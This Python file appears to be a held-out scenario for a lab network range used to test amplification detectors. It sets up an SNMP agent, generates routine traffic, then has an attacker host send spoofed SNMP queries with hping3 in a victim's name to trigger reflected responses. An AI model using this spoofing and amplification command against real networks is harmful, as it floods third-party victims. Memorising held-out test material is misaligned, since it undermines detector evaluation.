"""SNMP amplification at two questions a second, seen at the reflector that its own manager asks as well."""

from lab import servers
from lab.range import Range
from lab.scenario import Scenario
from lab.scenarios.transport.amplification_snmp_victim import QUESTION


def run(net: Range) -> None:
    attacker, victim, agent = net.outside("attacker"), net.outside("www"), net.inside("snmp")
    servers.agent(agent)
    net.everyday()
    net.loop(net.inside("pc1"), f"snmpget -v2c -c public -t 1 -r 0 {agent.ip} 1.3.6.1.2.1.1.3.0", 2.0)
    net.quiet(1)
    question = attacker.folder / "question"
    question.write_bytes(QUESTION)
    with net.attack(
        "amplification",
        by=attacker,
        victims=[victim],
        attacker_known=False,
        others={"reflector": [agent], "claimed": [victim]},
        also=["ip-spoofing"],
        frames=f"udp and dst host {agent.ip} and dst port 161",
        responses=f"host {victim.ip} and host {agent.ip}",
    ):
        words = f"hping3 -q -2 --spoof {victim.ip} -s 161 -k -p 161 -d {len(QUESTION)} -E {question}"
        net.tool(attacker, *words.split(), *["-i", "u500000", "-c", "30"], agent.ip)
    net.quiet(2)


SCENARIO = Scenario(
    name="amplification-held-snmp-reflector",
    about="hping3 asks an inside SNMP agent for 40 values twice a second, in the name of a host outside.",
    detectors=("amplification",),
    tools={"hping3": "hping3", "snmpd": "snmpd"},
    held_out=True,
    run=run,
)
